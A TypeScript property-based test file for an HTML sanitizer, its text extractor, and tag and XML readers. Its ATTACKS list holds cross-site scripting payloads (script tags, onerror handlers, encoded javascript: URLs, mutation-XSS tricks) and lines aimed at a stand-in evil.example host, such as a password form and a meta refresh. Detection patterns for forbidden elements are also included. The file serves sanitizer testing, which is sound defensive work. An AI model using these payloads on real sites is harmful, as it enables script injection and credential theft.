import fc from 'fast-check';
import { DomUtils, parseDocument } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { startTags, xmlRecords } from '../../../src/html/read-markup.ts';
import { embeddableHtml, safeHtml } from '../../../src/html/sanitize.ts';
import { beginningOf, textFromHtml } from '../../../src/html/text.ts';
import { repetitions } from '../../support/repetitions.ts';
import { anyText } from '../../support/any-text.ts';

/** What attackers write, whole and in pieces. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<a href="javascript:alert(1)">',
  '<a href="java\nscript:alert(1)">',
  '<a href="&#106;avascript&colon;alert(1)">',
  '<a href=" data:text/html,<script>alert(1)</script>">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=password>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<p style="position:fixed;inset:0" id="main" class="overlay" onclick=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b',
  '"',
  "'",
  '>',
  '</p>',
  '<p title="',
  '\0',
];
/** Addresses that run scripts or name local files. */
const RUNS = /^\W*(?:javascript|data|vbscript|file):/i;
const FORBIDDEN =
  /^(?:script|style|iframe|object|embed|form|input|button|textarea|select|base|meta|link|svg|math|template|noscript|frame|frameset|applet)$/;

/** Elements and attributes that could run, load or cover something. */
const dangersIn = (html: string): readonly string[] =>
  DomUtils.findAll(() => true, parseDocument(html).children).flatMap(({ name, attribs }) => [
    ...(FORBIDDEN.test(name) ? [name] : []),
    ...Object.entries(attribs).flatMap(([attribute, value]) =>
      /^on|^(?:style|srcdoc|formaction|id|class)$/.test(attribute) || RUNS.test(value) ? [`${attribute}=${value}`] : [],
    ),
  ]);

const depthOf = (html: string): number => html.split('<b>').length - 1;

describe('HTML from outside', () => {
  test('keeps nested elements up to a depth, and of deeper ones the text', () => {
    expect(safeHtml(`${'<b>'.repeat(200)}deep${'</b>'.repeat(200)}`)).toBe(
      `${'<b>'.repeat(200)}deep${'</b>'.repeat(200)}`,
    );
    const cut = safeHtml(`${'<b>'.repeat(1_000)}deep <i>down</i>${'</b>'.repeat(1_000)} after`);
    expect([depthOf(cut), textFromHtml(cut)]).toEqual([256, 'deep down after']);
    expect(safeHtml(`${'<div>'.repeat(300)}<script>alert(1)</script><style>p {}</style>deep`)).not.toMatch(
      /alert|p \{\}/,
    );
  });

  test.each<[string, string, string]>([
    [
      'a&#60;b&lt;&amp;lt; <i>&quot;</i>&notit;&#0;',
      'a&lt;b&lt;&amp;lt; <i>&quot;</i>¬it;\ufffd',
      'a<b<&lt; "¬it;\ufffd',
    ],
    [
      'a < b << c &&& d &am<b>p;</b>',
      'a &lt; b &lt;&lt; c &amp;&amp;&amp; d &amp;am<b>p;</b>',
      'a < b << c &&& d &amp;',
    ],
    ['1 &NotEqualTilde; 2<svg><![CDATA[3 < &amp;]]></svg>4', '1 ≂̸ 23 &lt; &amp;amp;4', '1 ≂̸ 23 < &amp;4'],
    ['a<iframe>1 &lt; 2 &amp;amp;</iframe>b', 'a1 &lt; 2 &amp;amp;b', 'a1 < 2 &amp;b'],
    ['<noembed>&lt;b&gt;</noembed>', '&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['a<textarea>&lt;b&gt;</textarea>&lt;<!-- & -->&gt;', 'a&lt;&gt;', 'a<>'],
  ])('keeps the text between tags as it is: %s', (html, safe, text) => {
    expect(safeHtml(html)).toBe(safe);
    expect(textFromHtml(html)).toBe(text);
  });

  test.each([
    [
      '<table><tr><th>When</th><th>What</th></tr><tr><td>18:00</td><td>Opening</td></tr></table>',
      'When What|18:00 Opening',
    ],
    ['<table><tr>\n<td colspan="2">18:00</td>\n<td></td></tr><tr><td>19:30</td></tr></table>', '18:00|19:30'],
    ['<dl><dt>Price</dt><dd>10</dd><dt>Age</dt><dd>6</dd></dl><p>Come!</p>', 'Price|10|Age|6|Come!'],
    ['b<hr><pre>c</pre>d', 'b|c|d'],
    ['<figure><img src="a.png"><figcaption>The hall</figcaption></figure>Doors at six', 'The hall|Doors at six'],
  ])('keeps words apart in the text of %s', (html, lines) =>
    expect(textFromHtml(html).replaceAll(/\n+/g, '|')).toBe(lines),
  );

  test('keeps any number of elements in a row', () => {
    const list = `<ul>${'<li>a</li>'.repeat(1_000)}</ul>${'<p>b</p>'.repeat(1_000)}`;
    expect(safeHtml(list)).toBe(list);
    expect(safeHtml('<p>a'.repeat(1_000))).toBe('<p>a</p>'.repeat(1_000));
  });

  test('loses an attribute that is too long', () => {
    expect(safeHtml(`<a href="https://x.example/${'a'.repeat(5_000)}" title="t">x</a>`)).toBe('<a title="t">x</a>');
  });

  test('keeps the content of a few frames, but not of very many', () => {
    expect(safeHtml('a<iframe src="x"><b>old</b></iframe>b')).toBe('a<b>old</b>b');
    expect(safeHtml('a<iframe><b>old</b></iframe>b'.repeat(51))).toBe('ab'.repeat(51));
  });

  test('leaves nothing that runs, loads or covers the page, whatever it is made of', () =>
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 4 })), { maxLength: 12 }),
        (parts) => {
          expect(dangersIn(safeHtml(parts.join('')))).toEqual([]);
        },
      ),
      { numRuns: repetitions(2_000) },
    ));

  test('has a beginning that is read without the rest', () =>
    expect(beginningOf(`<p>${'word '.repeat(100_000)}</p>`)).toHaveLength(19_997));
});

/** A comment that is dropped, but long enough to reach the bounds: the whole sanitizer reads what follows. */
const UNREAD = `<!--${'<'.repeat(300)}${'-x'.repeat(2_500)}-->`;
const PIECES = [
  'word',
  ' ',
  '\n\n\n',
  '\t \n',
  '>',
  '"',
  "'",
  '\0',
  '\u{1f600}',
  '\ud800',
  '\ufeff',
  ';',
  'gt;',
  '--',
  ']]>',
];
const REFERENCES = ['&', '&amp;', '&gt', '&#60;b&#62;', '&bne;', '&notit;', '&#0;', '&#x1F600'];
const MARKUP = [
  '<',
  ...REFERENCES,
  '<b>',
  '</b>',
  '<p>',
  '</p>',
  '<br/>',
  '</br>',
  '<li>',
  '<script>',
  '</script>',
  '<style>',
  '<textarea>',
  '</textarea>',
  '<iframe src="https://x.example/">',
  '</iframe>',
  '<xmp>',
  '<svg>',
  '<plaintext>',
  '<a href="https://x.example/?a&amp;b" title="<">',
  '<a href=javascript:x __proto__=y>',
  '<img src=x',
  '<!--',
  '<?',
  '<![CDATA[',
];
const READERS: readonly (readonly [name: string, read: (html: string) => string])[] = [
  ['kept', safeHtml],
  ['as text', textFromHtml],
  ['a frame', (html) => embeddableHtml(html, false)],
  ['a known site’s frame', (html) => embeddableHtml(html, true)],
];

const textOf = (pieces: readonly string[]) =>
  fc.array(fc.constantFrom(...pieces), { maxLength: 20 }).map((found) => found.join(''));

describe('a text that reaches no bound is read faster, with the same result', () => {
  test.each(READERS)('%s', (_name, read) => {
    const text = fc.oneof(
      textOf(PIECES),
      textOf([...PIECES, ...REFERENCES]),
      textOf([...PIECES, ...MARKUP]),
      anyText(),
    );
    fc.assert(
      fc.property(text, (html) => {
        expect(read(html)).toBe(read(UNREAD + html));
      }),
      { numRuns: repetitions(500) },
    );
  });

  test('the comment before it does not change the result', () =>
    expect([safeHtml(`${UNREAD}a > "b"`), textFromHtml(`${UNREAD}a > b`)]).toEqual(['a &gt; &quot;b&quot;', 'a > b']));
});

describe('start tags', () => {
  test('are found by name, with the first attribute of each name', () => {
    expect(
      startTags(
        '<LINK Rel=a rel=b href="x?a&amp;b" checked><p><link/><!-- <link x> --><script>"<link y>"</script><linker>',
        ['link'],
      ),
    ).toEqual([
      {
        name: 'link',
        attributes: new Map([
          ['rel', 'a'],
          ['href', 'x?a&b'],
          ['checked', ''],
        ]),
      },
      { name: 'link', attributes: new Map() },
    ]);
  });
});

describe('the records of XML', () => {
  test.each<
    [string, readonly string[], ...(readonly [line: number, texts: Readonly<Record<string, readonly string[]>>])[]]
  >([
    [
      '<?xml version="1.0"?><oembed><a> x &amp; &#65; </a><B><![CDATA[<i>y</i>]]></B><c/></oembed>',
      ['oembed'],
      [1, { a: ['x & A'], b: ['<i>y</i>'], c: [''] }],
    ],
    ['<oembed><a>1</a><a>2</a><d>out<e>in</e>er</d></oembed>', ['oembed'], [1, { a: ['1', '2'], d: ['outer'] }]],
    ['<html><a>1</a></html>', ['oembed']],
    ['', ['oembed']],
    ['<oembed', ['oembed']],
    [
      '<rss>\n<channel>\n<title>T</title>\n<item>\n<ev:Place>x</ev:Place></item>\n<item/></channel><item><a>1</a></item></rss>',
      ['rss', 'channel', 'item'],
      [4, { 'ev:place': ['x'] }],
      [6, {}],
    ],
  ])('%s', (xml, path, ...expected) =>
    expect(xmlRecords(xml, path)).toEqual(
      expected.map(([line, texts]) => ({ line, texts: new Map(Object.entries(texts)) })),
    ),
  );
});
